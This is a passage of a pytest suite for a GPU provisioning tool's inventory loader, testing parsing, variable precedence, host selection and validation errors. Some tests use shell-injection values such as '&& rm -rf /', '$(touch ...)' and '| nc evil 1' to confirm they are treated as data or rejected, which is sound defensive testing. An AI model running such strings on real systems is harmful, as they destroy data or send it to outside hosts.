"""Inventory loading, precedence, Ansible format, selection, and every validation error."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers.inventory import write
from invoke import Context
from invoke.exceptions import Exit

from gpuprov.core.errors import InputError
from gpuprov.inventory import Host, InventoryError, load_inventory, parse_jump
from gpuprov.tasks import inventory as inventory_tasks

REPO = Path(__file__).resolve().parents[2]


def errors_of(path: Path) -> list[str]:
    with pytest.raises(InventoryError) as info:
        load_inventory(path)
    assert isinstance(info.value, InputError) and info.value.exit_code == 2
    return info.value.errors


def one_error(path: Path, line: int, key: str, *words: str) -> str:
    """The single error for `key`; it names the file, the line and the key path and holds `words`."""
    errors = errors_of(path)
    matching = [e for e in errors if f": {key}: " in e]
    assert len(matching) == 1, errors
    error = matching[0]
    assert error.startswith(f"{path}:{line}:"), error
    for word in words:
        assert word in error, error
    return error


FLEET = """\
defaults:
  user: ubuntu
  sudo: {password_env: SUDO_PW}
  vars:
    stack: {cuda: "12.8", driver: 570}
    site: dc1
    level: defaults
groups:
  gpu:
    children: [hgx, l40s]
    jump: bastion
    vars: {level: gpu, owner: ml}
  hgx:
    vars:
      level: hgx
      hardware: {gpu: H100-SXM, count: 8, nvswitch: true}
  l40s:
    vars: {level: l40s, hardware: {gpu: L40S, count: 4, nvswitch: false}}
  training:
    vars: {level: training}
hosts:
  bastion:
    address: bastion.example.com
    port: 2222
    sudo: {nopasswd: true}
  gpu01:
    address: 10.0.0.1
    groups: [hgx, training]
  gpu02:
    address: 10.0.0.2
    groups: [training, hgx]
    vars: {site: dc2}
  gpu03:
    address: 10.0.0.3
    groups: [l40s]
    user: root
    jump: ops@203.0.113.5:2200
"""


@pytest.fixture
def fleet(tmp_path):
    return load_inventory(write(tmp_path, FLEET))


# ---------- loading, precedence, provenance ----------

def test_loads_hosts_with_connection_settings(fleet):
    bastion = fleet.hosts["bastion"]
    assert (bastion.address, bastion.port, bastion.user) == ("bastion.example.com", 2222, "ubuntu")
    assert bastion.sudo_nopasswd and bastion.sudo_password_env is None
    gpu01 = fleet.hosts["gpu01"]
    assert (gpu01.address, gpu01.port, gpu01.user, gpu01.jump) == ("10.0.0.1", 22, "ubuntu", "bastion")
    assert gpu01.sudo_password_env == "SUDO_PW" and not gpu01.sudo_nopasswd
    assert list(fleet.hosts) == ["bastion", "gpu01", "gpu02", "gpu03"]
    assert fleet.format == "native"


def test_groups_include_ancestors_parents_first(fleet):
    assert fleet.hosts["gpu01"].groups == ("gpu", "hgx", "training")
    assert fleet.hosts["gpu02"].groups == ("training", "gpu", "hgx")
    assert fleet.groups["gpu"].hosts == ("gpu01", "gpu02", "gpu03")
    assert fleet.groups["hgx"].parents == ("gpu",)
    assert fleet.groups["gpu"].children == ("hgx", "l40s")


def test_precedence_defaults_groups_host_and_listing_order(fleet):
    gpu01, gpu02 = fleet.hosts["gpu01"], fleet.hosts["gpu02"]
    # gpu01 lists [hgx, training]: training is later, so it wins over hgx and its parent gpu
    assert gpu01.var("level") == "training" and gpu01.sources["level"] == "group:training"
    # gpu02 lists [training, hgx]: hgx (after its parent gpu) wins
    assert gpu02.var("level") == "hgx" and gpu02.sources["level"] == "group:hgx"
    assert gpu01.var("site") == "dc1" and gpu01.sources["site"] == "defaults"
    assert gpu02.var("site") == "dc2" and gpu02.sources["site"] == "host"
    assert gpu01.var("owner") == "ml" and gpu01.sources["owner"] == "group:gpu"
    assert gpu01.var("hardware.count") == 8 and gpu01.sources["hardware"] == "group:hgx"
    assert gpu01.setting_sources["jump"] == "group:gpu"


def test_child_group_wins_over_parent_even_when_parent_listed_later(tmp_path):
    path = write(tmp_path, """\
        groups:
          parent: {children: [child], vars: {x: parent}}
          child: {vars: {x: child}}
        hosts:
          h1: {address: 10.0.0.1, groups: [child, parent]}
        """)
    host = load_inventory(path).hosts["h1"]
    assert host.groups == ("parent", "child")
    assert host.var("x") == "child"


def test_var_dotted_lookup_and_defaults(fleet):
    gpu03 = fleet.hosts["gpu03"]
    assert gpu03.var("stack.cuda") == "12.8"
    assert gpu03.var("stack.driver") == "570"  # an int driver branch is normalised to a string
    assert gpu03.var("stack.missing", "x") == "x"
    assert gpu03.var("nothing.at.all") is None


def test_unquoted_versions_keep_their_text(tmp_path):
    path = write(tmp_path, """\
        hosts:
          h1:
            address: 10.0.0.1
            vars: {stack: {cuda: 12.8, ngc: 25.10, nccl: 2.26, pytorch: 2.10}}
        """)
    stack = load_inventory(path).hosts["h1"].var("stack")
    assert stack == {"cuda": "12.8", "ngc": "25.10", "nccl": "2.26", "pytorch": "2.10"}


def test_an_unquoted_version_is_checked_as_written(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    address: 10.0.0.1\n    vars: {stack: {cuda: 12.10}}\n")
    [error] = errors_of(path)
    assert error.startswith(f"{path}:4:26: hosts.h1.vars.stack.cuda: unknown CUDA release '12.10'. Accepted: ")


def test_validated_values_are_normalised(tmp_path):
    (tmp_path / "ca.pem").write_text("ca")
    path = write(tmp_path, """\
        defaults:
          vars:
            mirror:
              url: https://mirror.example/nvidia/
              fingerprint: "eb69 3b30 35cd 5710 e231 e123 a4b4 6996 3bf8 63cc"
              ca_file: ca.pem
            firewall:
              allow:
                - {port: 22, sources: [10.0.0.0/8, 192.168.1.7]}
        hosts:
          h1: {address: 10.0.0.1}
        """)
    host = load_inventory(path).hosts["h1"]
    assert host.var("mirror.fingerprint") == "EB693B3035CD5710E231E123A4B469963BF863CC"
    assert host.var("mirror.ca_file") == str(tmp_path / "ca.pem")
    assert host.var("firewall.allow") == [{"port": 22, "proto": "tcp",
                                           "sources": ["10.0.0.0/8", "192.168.1.7/32"]}]


def test_identity_file_is_resolved_relative_to_the_inventory(tmp_path):
    (tmp_path / "keys").mkdir()
    (tmp_path / "keys" / "id").write_text("key")
    path = write(tmp_path, "hosts:\n  h1: {address: 10.0.0.1, identity_file: keys/id}\n")
    assert load_inventory(path).hosts["h1"].identity_file == str(tmp_path / "keys" / "id")


def test_identity_file_expands_home(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "id").write_text("key")
    path = write(tmp_path, "hosts:\n  h1: {address: 10.0.0.1, identity_file: ~/id}\n")
    assert load_inventory(path).hosts["h1"].identity_file == str(tmp_path / "id")


def test_known_hosts_is_resolved_and_need_not_exist(tmp_path):
    path = write(tmp_path, "known_hosts: state/known_hosts\nhosts:\n  h1: {address: 10.0.0.1}\n")
    assert load_inventory(path).known_hosts == tmp_path / "state" / "known_hosts"
    assert load_inventory(write(tmp_path, "hosts:\n  h1:\n", "b.yaml")).known_hosts is None
    one_error(write(tmp_path, "known_hosts: 5\nhosts:\n  h1:\n", "c.yaml"), 1, "known_hosts", "must be a path")


def test_the_lab_inventory_loads(tmp_path):
    from gpuprov.lab.state import LabHost, LabPaths, render_inventory

    paths = LabPaths(tmp_path)
    paths.key.parent.mkdir(parents=True)
    paths.key.write_text("key")
    paths.inventory.parent.mkdir(parents=True, exist_ok=True)
    lab_hosts = [LabHost("gpuprov-lab-01", "hgx-h100", 42201, "172.20.0.2", "c1",
                         {"gpu": "H100-SXM", "count": 8, "nvswitch": True})]
    paths.inventory.write_text(render_inventory(lab_hosts, paths))
    inv = load_inventory(paths.inventory)
    host = inv.hosts["gpuprov-lab-01"]
    assert (host.address, host.port, host.user) == ("127.0.0.1", 42201, "root")
    assert host.identity_file == str(paths.key) and host.groups == ("lab", "hgx-h100")
    assert inv.known_hosts == paths.known_hosts


def test_address_defaults_to_the_host_name(tmp_path):
    host = load_inventory(write(tmp_path, "hosts:\n  gpu01.example.com:\n")).hosts["gpu01.example.com"]
    assert (host.address, host.user, host.port) == ("gpu01.example.com", "root", 22)


def test_yaml_anchors_and_merge_keys(tmp_path):
    path = write(tmp_path, """\
        defaults:
          vars:
            base: &base {a: 1, b: 2}
        hosts:
          h1: {address: 10.0.0.1, vars: {derived: {<<: *base, b: 3}}}
          h2: {address: 10.0.0.2, vars: {copy: *base}}
        """)
    inv = load_inventory(path)
    assert inv.hosts["h1"].var("derived") == {"a": 1, "b": 3}
    assert inv.hosts["h2"].var("copy") == {"a": 1, "b": 2}


def test_values_are_data_not_code(tmp_path):
    marker = tmp_path / "owned"
    path = write(tmp_path, f"""\
        hosts:
          h1:
            address: 10.0.0.1
            vars:
              cmd: $(touch {marker})
              sep: ; reboot
              tick: "`id`"
              nested: {{list: ["&& rm -rf /", "| nc evil 1"]}}
        """)
    host = load_inventory(path).hosts["h1"]
    assert host.var("cmd") == f"$(touch {marker})"
    assert host.var("sep") == "; reboot"
    assert host.var("tick") == "`id`"
    assert host.var("nested.list") == ["&& rm -rf /", "| nc evil 1"]
    assert not marker.exists()


# ---------- Ansible inventories ----------

ANSIBLE = """\
all:
  vars:
    ansible_user: ubuntu
    site: dc1
  hosts:
    bastion: {ansible_host: 203.0.113.10, ansible_port: 2222}
  children:
    gpus:
      vars:
        gpuprov_jump: bastion
        ansible_python_interpreter: /usr/bin/python3
        hardware: {gpu: H100-SXM, count: 8, nvswitch: true}
      children:
        hgx:
          vars:
            ansible_ssh_private_key_file: id_fleet
            gpuprov_sudo: {password_env: FLEET_SUDO}
          hosts:
            gpu01: {ansible_host: 10.0.0.1, ansible_port: "2201", rack: r1,
                    ansible_become_password: hunter2}
            gpu02:
    inference:
      hosts:
        gpu02: {ansible_host: 10.0.0.2}
"""


def test_ansible_inventory_loads_as_it_is(tmp_path):
    (tmp_path / "id_fleet").write_text("key")
    inv = load_inventory(write(tmp_path, ANSIBLE))
    assert inv.format == "ansible"
    assert list(inv.hosts) == ["bastion", "gpu01", "gpu02"]
    assert list(inv.groups) == ["gpus", "hgx", "inference", "ungrouped"]  # Ansible's: bastion is in ungrouped
    gpu01 = inv.hosts["gpu01"]
    assert (gpu01.address, gpu01.port, gpu01.user, gpu01.jump) == ("10.0.0.1", 2201, "ubuntu", "bastion")
    assert gpu01.identity_file == str(tmp_path / "id_fleet")
    assert gpu01.sudo_password_env == "FLEET_SUDO"
    assert gpu01.groups == ("gpus", "hgx")
    assert gpu01.vars == {"site": "dc1", "hardware": {"gpu": "H100-SXM", "count": 8, "nvswitch": True},
                          "rack": "r1"}
    assert gpu01.sources == {"site": "defaults", "hardware": "group:gpus", "rack": "host"}
    # Ansible's precedence order (ansible-inventory --list shows it): by depth, so hgx (under gpus) after inference
    assert inv.hosts["gpu02"].groups == ("gpus", "inference", "hgx")
    assert inv.hosts["bastion"].port == 2222 and inv.hosts["bastion"].groups == ("ungrouped",)


def test_ansible_become_password_is_never_read(tmp_path):
    (tmp_path / "id_fleet").write_text("key")
    inv = load_inventory(write(tmp_path, ANSIBLE))
    for host in inv.hosts.values():
        assert "hunter2" not in json.dumps(host.to_dict())
    assert len(inv.warnings) == 1
    assert "ansible_become_password" in inv.warnings[0] and "hunter2" not in inv.warnings[0]


def test_ansible_vault_value_on_a_dropped_key_is_fine_but_not_on_a_kept_one(tmp_path):
    path = write(tmp_path, """\
        all:
          hosts:
            h1:
              ansible_host: 10.0.0.1
              ansible_become_password: !vault |
                $ANSIBLE_VAULT;1.1;AES256
                6133
              token: !vault |
                $ANSIBLE_VAULT;1.1;AES256
                6134
        """)
    one_error(path, 8, "all.hosts.h1.token", "!vault")


def test_ansible_errors_name_the_original_key(tmp_path):
    path = write(tmp_path, """\
        all:
          children:
            gpus:
              hosts:
                h1: {ansible_host: "10.0.0.1 && reboot", ansible_port: 99999}
              hostz: {}
        """)
    one_error(path, 5, "all.children.gpus.hosts.h1.ansible_host", "bad address")
    one_error(path, 5, "all.children.gpus.hosts.h1.ansible_port", "bad port")
    one_error(path, 6, "all.children.gpus.hostz", "did you mean 'hosts'")


def test_ansible_group_cycle(tmp_path):
    path = write(tmp_path, """\
        all:
          children:
            a:
              children:
                b:
                  children:
                    a:
                  hosts:
                    h1: {ansible_host: 10.0.0.1}
        """)
    one_error(path, 7, "all.children.a.children.b.children.a", "group cycle: a -> b -> a")


# ---------- host selection and jump hosts ----------

def test_select_by_host_group_and_all(fleet):
    assert [h.name for h in fleet.select(["gpu03"], [], False)] == ["gpu03"]
    assert [h.name for h in fleet.select([], ["hgx"], False)] == ["gpu01", "gpu02"]
    assert [h.name for h in fleet.select(["gpu03", "gpu01"], ["training"], False)] == ["gpu01", "gpu02", "gpu03"]
    assert [h.name for h in fleet.select([], [], True)] == ["bastion", "gpu01", "gpu02", "gpu03"]


@pytest.mark.parametrize(("pattern", "expected"), [
    # Ansible's pattern meanings (tests/unit/test_host_patterns.py) on gpuprov's own format: a group with children,
    # its positions (own hosts, then the children's: hgx, then l40s), `ungrouped`
    ("gpu", ["gpu01", "gpu02", "gpu03"]), ("gpu:!hgx", ["gpu03"]), ("gpu:&training", ["gpu01", "gpu02"]),
    ("gpu[0]", ["gpu01"]), ("gpu[-1]", ["gpu03"]), ("ungrouped", ["bastion"]), ("gpu*", ["gpu01", "gpu02", "gpu03"]),
    ("!gpu", ["bastion"]), ("gpu03,bastion", ["bastion", "gpu03"]),
])
def test_select_by_pattern_in_inventory_order(fleet, pattern, expected):
    assert [h.name for h in fleet.select([pattern], [], False)] == expected


def test_select_unknown_names_with_did_you_mean(fleet):
    with pytest.raises(InputError) as info:
        fleet.select(["gpu1", "gpu02"], ["hgxx"], False)
    message = str(info.value)
    assert "unknown host 'gpu1'" in message and "did you mean 'gpu01'" in message
    assert "unknown group 'hgxx'" in message and "did you mean 'hgx'" in message
    assert info.value.exit_code == 2


def test_select_nothing_is_an_error(fleet):
    with pytest.raises(InputError, match="no hosts selected") as info:
        fleet.select([], [], False)
    assert "give --host, --group or --all" in str(info.value)


def test_select_empty_group_is_an_error(tmp_path):
    inv = load_inventory(write(tmp_path, "groups:\n  empty:\nhosts:\n  h1: {address: 10.0.0.1}\n"))
    with pytest.raises(InputError, match="group empty has no hosts"):
        inv.select([], ["empty"], False)


def test_jump_host_by_name_and_by_address(fleet):
    assert fleet.jump_host(fleet.hosts["bastion"]) is None
    assert fleet.jump_host(fleet.hosts["gpu01"]) is fleet.hosts["bastion"]
    synthetic = fleet.jump_host(fleet.hosts["gpu03"])
    assert isinstance(synthetic, Host)
    assert (synthetic.user, synthetic.address, synthetic.port) == ("ops", "203.0.113.5", 2200)


@pytest.mark.parametrize("text, expected", [
    ("ops@bastion.example.com", ("ops", "bastion.example.com", 22)),
    ("ops@10.0.0.1:2222", ("ops", "10.0.0.1", 2222)),
    ("ops@[fd00::1]:2222", ("ops", "fd00::1", 2222)),
    ("ops@fd00::1", ("ops", "fd00::1", 22)),
])
def test_parse_jump(text, expected):
    assert parse_jump(text) == expected


@pytest.mark.parametrize("text", ["bastion", "@host", "ops@", "ops@host:0", "ops@host:x", "o p@host",
                                  "ops@ho st", "ops@$(id)", "ops@[fd00::1"])
def test_parse_jump_rejects(text):
    with pytest.raises(ValueError):
        parse_jump(text)


def test_host_is_hashable(fleet):
    assert len({fleet.hosts["gpu01"], fleet.hosts["gpu02"]}) == 2


# ---------- file-level errors ----------

def test_missing_file_is_an_input_error(tmp_path):
    with pytest.raises(InputError, match="not found") as info:
        load_inventory(tmp_path / "nope.yaml")
    assert not isinstance(info.value, InventoryError) and info.value.exit_code == 2


def test_directory_is_an_input_error(tmp_path):
    with pytest.raises(InputError, match="not a file"):
        load_inventory(tmp_path)


@pytest.mark.parametrize("text", ["", "   \n", "# only a comment\n"])
def test_empty_file(tmp_path, text):
    path = tmp_path / "inv.yaml"
    path.write_text(text)
    [error] = errors_of(path)
    assert error.startswith(f"{path}:1:1:") and "empty" in error


@pytest.mark.parametrize("text, what", [("- a\n- b\n", "a list"), ("just text\n", "str"), ("42\n", "int")])
def test_top_level_must_be_a_mapping(tmp_path, text, what):
    [error] = errors_of(write(tmp_path, text))
    assert ":1:1: (top level): the top level must be a mapping" in error and what in error


def test_yaml_syntax_error_names_line_and_column(tmp_path):
    path = write(tmp_path, "hosts:\n  h1: {address: 10.0.0.1\n  h2: [\n")
    [error] = errors_of(path)
    assert error.startswith(f"{path}:") and "YAML syntax error" in error
    assert int(error.split(":")[1]) >= 2


def test_non_utf8_file(tmp_path):
    path = tmp_path / "inv.yaml"
    path.write_bytes(b"hosts:\n  h1:\n    vars: {note: caf\xe9}\n")
    [error] = errors_of(path)
    assert error.startswith(f"{path}:3:") and "UTF-8" in error


def test_control_character(tmp_path):
    path = tmp_path / "inv.yaml"
    path.write_text("hosts:\n  h1: {address: \x07}\n")
    [error] = errors_of(path)
    assert error.startswith(f"{path}:2:") and "not allowed" in error


def test_recursive_alias_is_an_error_not_a_crash(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    vars: {loop: &a [*a]}\n")
    one_error(path, 3, "hosts.h1.vars.loop[0]", "refers to itself")


def test_alias_bomb_is_bounded(tmp_path):
    lines = ["defaults:", "  vars:", "    l0: &l0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"    l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 8)]
    lines += ["hosts:", "  h1: {address: 10.0.0.1}"]
    errors = errors_of(write(tmp_path, "\n".join(lines) + "\n"))
    assert any("more than" in e for e in errors)


# ---------- validation errors: each names file, line and key ----------

def test_errors_are_all_collected(tmp_path):
    path = write(tmp_path, """\
        hosts:
          h1: {address: "bad address", port: 0}
          h2: {address: 10.0.0.2, user: "r o o t"}
        """)
    errors = errors_of(path)
    assert len(errors) == 3
    assert all(e.startswith(f"{path}:") for e in errors)


def test_unknown_top_level_key(tmp_path):
    path = write(tmp_path, "hosts:\n  h1: {address: 10.0.0.1}\ngroup:\n  a: {}\n")
    one_error(path, 3, "group", "unknown top-level key 'group'", "did you mean 'groups'")


def test_unknown_host_key(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    adress: 10.0.0.1\n")
    one_error(path, 3, "hosts.h1.adress", "unknown host key", "did you mean 'address'")


def test_unknown_group_key(tmp_path):
    path = write(tmp_path, "groups:\n  a:\n    child: [b]\nhosts:\n  h1:\n")
    one_error(path, 3, "groups.a.child", "unknown group key", "did you mean 'children'")


def test_unknown_defaults_key_and_groups_in_defaults(tmp_path):
    path = write(tmp_path, "defaults:\n  prot: 22\n  groups: [a]\nhosts:\n  h1:\n")
    one_error(path, 2, "defaults.prot", "did you mean 'port'")
    one_error(path, 3, "defaults.groups", "cannot list groups")


@pytest.mark.parametrize("var, text, line, key, words", [
    ("hardware", "{gpu: H100, cnt: 8}", 4, "hardware.cnt", ("did you mean 'count'",)),
    ("stack", "{cuda: '12.8', drivers: '570'}", 4, "stack.drivers", ("did you mean 'driver'",)),
    ("mirror", "{url: 'http://m/', proxi: 'http://p:3128'}", 4, "mirror.proxi", ("did you mean 'proxy'",)),
    ("firewall", "{alow: []}", 4, "firewall.alow", ("did you mean 'allow'",)),
    ("firewall", "{allow: [{port: 22, source: [10.0.0.0/8]}]}", 4, "firewall.allow[0].source",
     ("did you mean 'sources'",)),
])
def test_unknown_keys_in_validated_vars(tmp_path, var, text, line, key, words):
    path = write(tmp_path, f"hosts:\n  h1:\n    vars:\n      {var}: {text}\n")
    one_error(path, line, f"hosts.h1.vars.{key}", "unknown", *words)


def test_unknown_sudo_key_and_password_in_inventory(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    user: ops\n    sudo: {password: hunter2, nopasswrd: true}\n")
    error = one_error(path, 4, "hosts.h1.sudo.password", "never stored in an inventory", "password_env")
    assert "hunter2" not in error
    one_error(path, 4, "hosts.h1.sudo.nopasswrd", "did you mean 'nopasswd'")


@pytest.mark.parametrize("sudo, key, words", [
    ("{password_env: 'A B'}", "hosts.h1.sudo.password_env", ("bad environment variable name",)),
    ("{nopasswd: maybe}", "hosts.h1.sudo.nopasswd", ("true or false",)),
    ("{nopasswd: true, password_env: PW}", "hosts.h1.sudo", ("not both",)),
    ("yes", "hosts.h1.sudo", ("must be a mapping",)),
])
def test_bad_sudo(tmp_path, sudo, key, words):
    path = write(tmp_path, f"hosts:\n  h1:\n    user: ops\n    sudo: {sudo}\n")
    one_error(path, 4, key, *words)


def test_duplicate_host_names(tmp_path):
    path = write(tmp_path, """\
        hosts:
          gpu01: {address: 10.0.0.1}
          gpu02: {address: 10.0.0.2}
          gpu01: {address: 10.0.0.3}
        """)
    one_error(path, 4, "hosts.gpu01", "duplicate host 'gpu01'", "first at line 2")


def test_duplicate_keys_anywhere(tmp_path):
    path = write(tmp_path, """\
        hosts:
          gpu01:
            address: 10.0.0.1
            vars:
              hardware: {gpu: H100-SXM, count: 8}
              hardware: {gpu: L40S, count: 4}
            address: 10.0.0.9
        """)
    one_error(path, 6, "hosts.gpu01.vars.hardware", "duplicate key 'hardware'", "first at line 5")
    one_error(path, 7, "hosts.gpu01.address", "duplicate key 'address'", "first at line 3")


@pytest.mark.parametrize("port", ["0", "65536", "-1", "'22'", "22.5", "true", "[22]"])
def test_bad_port(tmp_path, port):
    path = write(tmp_path, f"hosts:\n  h1:\n    address: 10.0.0.1\n    port: {port}\n")
    one_error(path, 4, "hosts.h1.port", "bad port", "1 to 65535")


@pytest.mark.parametrize("address", [
    "'10.0.0.1; reboot'", "'$(touch /tmp/owned)'", "'host name'", "'-oProxyCommand=x'", "'a..b'",
    "'under_score.example'", "'`id`'", "''", "42", "'x '", "'h|nc'", "'999.1.1.1.1'", "'10.0.0.256'",
])
def test_bad_address(tmp_path, address):
    path = write(tmp_path, f"hosts:\n  h1:\n    address: {address}\n")
    one_error(path, 3, "hosts.h1.address", "bad address", "host name (RFC 1123) or an IP address")


@pytest.mark.parametrize("address", ["10.0.0.1", "fd00::1", "gpu-01.example.com", "gpu01", "a.b.c."])
def test_good_address(tmp_path, address):
    path = write(tmp_path, f"hosts:\n  h1:\n    address: '{address}'\n")
    assert load_inventory(path).hosts["h1"].address == address


@pytest.mark.parametrize("user", ["'root; reboot'", "'$(id)'", "'a b'", "'-oops'", "123", "''"])
def test_bad_user(tmp_path, user):
    path = write(tmp_path, f"hosts:\n  h1:\n    address: 10.0.0.1\n    user: {user}\n")
    one_error(path, 4, "hosts.h1.user", "bad user")


def test_bad_host_name_and_name_used_as_address(tmp_path):
    path = write(tmp_path, """\
        hosts:
          "gpu 01": {address: 10.0.0.1}
          "gpu[01:04]": {address: 10.0.0.2}
          gpu_01:
        """)
    one_error(path, 2, "hosts.gpu 01", "bad host name")
    one_error(path, 3, "hosts.gpu[01:04]", "host ranges")
    one_error(path, 4, "hosts.gpu_01", "no address", "give address:")


def test_group_cycle_names_the_cycle(tmp_path):
    path = write(tmp_path, """\
        groups:
          a: {children: [b]}
          b: {children: [c]}
          c: {children: [a]}
          self: {children: [self]}
        hosts:
          h1: {address: 10.0.0.1, groups: [a]}
        """)
    one_error(path, 4, "groups.c.children[0]", "group cycle: a -> b -> c -> a")
    one_error(path, 5, "groups.self.children[0]", "group cycle: self -> self")


def test_host_names_unknown_group(tmp_path):
    path = write(tmp_path, """\
        groups:
          hgx-h100: {}
        hosts:
          h1:
            address: 10.0.0.1
            groups: [hgx-h10]
        """)
    one_error(path, 6, "hosts.h1.groups[0]", "unknown group 'hgx-h10'", "did you mean 'hgx-h100'")


def test_child_names_unknown_group(tmp_path):
    path = write(tmp_path, "groups:\n  gpu: {children: [hgz]}\n  hgx: {}\nhosts:\n  h1:\n")
    one_error(path, 2, "groups.gpu.children[0]", "unknown group 'hgz'", "did you mean 'hgx'")


def test_groups_must_be_a_list(tmp_path):
    path = write(tmp_path, "groups:\n  a: {}\nhosts:\n  h1:\n    groups: a\n")
    one_error(path, 5, "hosts.h1.groups", "must be a list of group names")


def test_unknown_jump_host(tmp_path):
    path = write(tmp_path, """\
        hosts:
          bastion: {address: 10.0.0.254}
          h1: {address: 10.0.0.1, jump: bastoin}
        """)
    one_error(path, 3, "hosts.h1.jump", "unknown jump host 'bastoin'", "did you mean 'bastion'")


def test_bad_jump_spec(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    address: 10.0.0.1\n    jump: 'ops@$(id):22'\n")
    one_error(path, 4, "hosts.h1.jump", "bad jump", "bad address")


def test_jump_cycle(tmp_path):
    path = write(tmp_path, """\
        defaults:
          jump: bastion
        hosts:
          bastion: {address: 10.0.0.254}
          a: {address: 10.0.0.1, jump: b}
          b: {address: 10.0.0.2, jump: a}
        """)
    one_error(path, 2, "defaults.jump", "jump cycle: bastion -> bastion", "jump: null")
    one_error(path, 5, "hosts.a.jump", "jump cycle: a -> b -> a")


def test_missing_identity_file(tmp_path):
    path = write(tmp_path, "defaults:\n  identity_file: keys/missing\nhosts:\n  h1:\n")
    one_error(path, 2, "defaults.identity_file", str(tmp_path / "keys" / "missing"), "not found")


@pytest.mark.parametrize("text, key, words", [
    ("{gpu: 100, count: 8}", "hardware.gpu", ("GPU model must be text such as H100-SXM, not a number",)),
    ("{gpu: H100-SMX, count: 8}", "hardware.gpu", ("unknown GPU model 'H100-SMX' (did you mean 'H100-SXM'",)),
    ("{gpu: H100, count: 0}", "hardware.count", ("integer >= 1",)),
    ("{gpu: H100, count: true}", "hardware.count", ("integer >= 1",)),
    ("{gpu: H100, nvswitch: 'yes please'}", "hardware.nvswitch", ("true or false",)),
])
def test_bad_hardware(tmp_path, text, key, words):
    path = write(tmp_path, f"hosts:\n  h1:\n    vars:\n      hardware: {text}\n")
    one_error(path, 4, f"hosts.h1.vars.{key}", *words)


# The pin rules and their messages belong to gpuprov.stack.inputs; here: each is located at its key.
@pytest.mark.parametrize("field, value, col, message", [
    ("cuda", "'12'", 21, "bad CUDA version '12': give a release such as 12.8 or an update such as 12.8.1. Accepted: "),
    ("cuda", "12", 21, "bad CUDA version '12': give a release such as 12.8 or an update such as 12.8.1. Accepted: "),
    ("cuda", "'twelve'", 21, "bad CUDA version 'twelve': give a release such as 12.8 or an update such as 12.8.1."),
    ("cuda", "true", 21, 'CUDA version must be text such as "12.8", not a boolean'),
    ("driver", "'570.999'", 23, "NVIDIA never published 570.999 as far as gpuprov's data knows; published 570 "
                                "versions: "),
    ("driver", "57", 23, "unknown driver branch '57'. Accepted: "),
    ("driver", "[570]", 23, 'driver must be text such as "570", not a list'),
    ("pytorch", "'2'", 24, "unknown PyTorch release '2'. Accepted: "),
    ("ngc", "'25.13'", 20, "unknown NGC PyTorch tag '25.13'. Accepted: "),
    ("ngc", "'2025.04'", 20, "unknown NGC PyTorch tag '2025.04'. Accepted: "),
    ("nccl", "'2'", 21, "unknown NCCL version '2'. Accepted: "),
    ("nccl", "'2.26.5.1'", 21, "unknown NCCL version '2.26.5.1'. Accepted: "),
    ("driver", "'５７０'", 23, "driver '５７０' has digits that are not ASCII ('５', '７', '０'); write it with the "
                             "digits 0-9"),
])
def test_bad_stack_versions(tmp_path, field, value, col, message):
    path = write(tmp_path, f"hosts:\n  h1:\n    vars:\n      stack: {{{field}: {value}}}\n")
    [error] = errors_of(path)
    assert error.startswith(f"{path}:4:{col}: hosts.h1.vars.stack.{field}: {message}"), error


def test_stack_pins_are_kept_normalized(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    vars:\n      stack: {driver: R570, ngc: 25.04-py3}\n"
                           "      hardware: {gpu: H100}\n")
    host = load_inventory(path).hosts["h1"]
    assert host.var("stack") == {"driver": "570", "ngc": "25.04"} and host.var("hardware.gpu") == "H100-SXM"


def test_bad_forward_compat(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    vars:\n      stack: {forward_compat: 'no'}\n")
    one_error(path, 4, "hosts.h1.vars.stack.forward_compat", "true or false")


@pytest.mark.parametrize("text, key, words", [
    ("{url: 'ftp://mirror/'}", "mirror.url", ("http:// or https://",)),
    ("{url: 'http://'}", "mirror.url", ("bad URL",)),
    ("{url: 'http://mirror/ $(id)'}", "mirror.url", ("bad URL",)),
    ("{url: 'http://m/', proxy: 'socks5://p:1080'}", "mirror.proxy", ("bad URL",)),
    ("{url: 'http://m/', fingerprint: 'ABCD'}", "mirror.fingerprint", ("40 hex digits",)),
    ("{url: 'http://m/', fingerprint: 'G' }", "mirror.fingerprint", ("40 hex digits",)),
    ("{url: 'http://m/', ca_file: certs/ca.pem}", "mirror.ca_file", ("not found", "certs/ca.pem")),
    ("{url: 'http://m/', key_file: 42}", "mirror.key_file", ("must be a path",)),
    ("{proxy: 'http://p:3128'}", "mirror", ("needs url",)),
    ("'http://m/'", "mirror", ("must be a mapping",)),
])
def test_bad_mirror(tmp_path, text, key, words):
    path = write(tmp_path, f"hosts:\n  h1:\n    vars:\n      mirror: {text}\n")
    one_error(path, 4, f"hosts.h1.vars.{key}", *words)


@pytest.mark.parametrize("rule, key, words", [
    ("{port: 70000, sources: [10.0.0.0/8]}", "allow[0].port", ("bad port",)),
    ("{port: 22, proto: icmp, sources: [10.0.0.0/8]}", "allow[0].proto", ("tcp or udp",)),
    ("{port: 22, sources: [10.0.0.1/8]}", "allow[0].sources[0]", ("host bits set", "10.0.0.0/8")),
    ("{port: 22, sources: [not-a-cidr]}", "allow[0].sources[0]", ("bad CIDR",)),
    ("{port: 22, sources: []}", "allow[0].sources", ("non-empty list",)),
    ("{port: 22}", "allow[0]", ("needs sources",)),
    ("{sources: [10.0.0.0/8]}", "allow[0]", ("needs port",)),
])
def test_bad_firewall_rule(tmp_path, rule, key, words):
    path = write(tmp_path, f"hosts:\n  h1:\n    vars:\n      firewall: {{allow: [{rule}]}}\n")
    one_error(path, 4, f"hosts.h1.vars.firewall.{key}", *words)


def test_firewall_allow_must_be_a_list(tmp_path):
    path = write(tmp_path, "hosts:\n  h1:\n    vars:\n      firewall: {allow: {port: 22}}\n")
    one_error(path, 4, "hosts.h1.vars.firewall.allow", "must be a list")


def test_vars_in_groups_and_defaults_are_validated_where_written(tmp_path):
    path = write(tmp_path, """\
        defaults:
          vars: {hardware: {count: -1}}
        groups:
          g:
            vars: {stack: {cuda: x}}
